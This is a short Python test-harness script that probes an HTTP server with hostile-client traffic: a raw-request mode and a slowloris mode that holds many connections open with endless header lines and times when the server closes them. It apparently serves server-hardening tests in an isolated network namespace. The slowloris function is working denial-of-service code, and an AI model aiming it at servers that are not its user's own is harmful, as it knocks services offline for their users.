#!/usr/bin/env python3
"""Hostile-client probes against one HTTP endpoint; prints JSON. Run inside the client's netns.

  probe.py raw HOST PORT             reads the request from stdin, prints the status lines it got back
  probe.py slowloris HOST PORT N INTERVAL   N connections sending one header line every INTERVAL s;
                                     prints how long each stayed open (until the server closed it)
"""

from __future__ import annotations

import json
import re
import socket
import sys
import threading
import time


def raw(host: str, port: int) -> dict:
    request = sys.stdin.buffer.read()
    with socket.create_connection((host, port), timeout=5) as s:
        s.sendall(request)
        data = b""
        try:
            while chunk := s.recv(65536):
                data += chunk
        except (TimeoutError, ConnectionResetError):
            pass
    statuses = [int(m) for m in re.findall(rb"HTTP/1\.[01] (\d{3}) ", data)]
    return {"statuses": statuses, "bytes": len(data)}


def slowloris(host: str, port: int, n: int, interval: float) -> dict:
    open_for = [None] * n
    start = time.monotonic()

    def one(i: int) -> None:
        try:
            s = socket.create_connection((host, port), timeout=5)
            t0 = time.monotonic()
            s.sendall(b"GET /test HTTP/1.1\r\nHost: x\r\n")
            s.settimeout(interval)
            k = 0
            while time.monotonic() - t0 < 120:
                try:
                    if s.recv(1024) == b"":  # closed by the server (after its 408, if any)
                        break
                except TimeoutError:
                    s.sendall(f"X-Slow-{k}: {k}\r\n".encode())  # never the blank line that ends the header
                    k += 1
                except OSError:
                    break
            open_for[i] = round(time.monotonic() - t0, 2)
            s.close()
        except OSError:
            open_for[i] = -1  # could not connect

    threads = [threading.Thread(target=one, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return {"open_seconds": open_for, "wall": round(time.monotonic() - start, 2)}


if __name__ == "__main__":
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    result = raw(host, port) if mode == "raw" else slowloris(host, port, int(sys.argv[4]), float(sys.argv[5]))
    print(json.dumps(result))
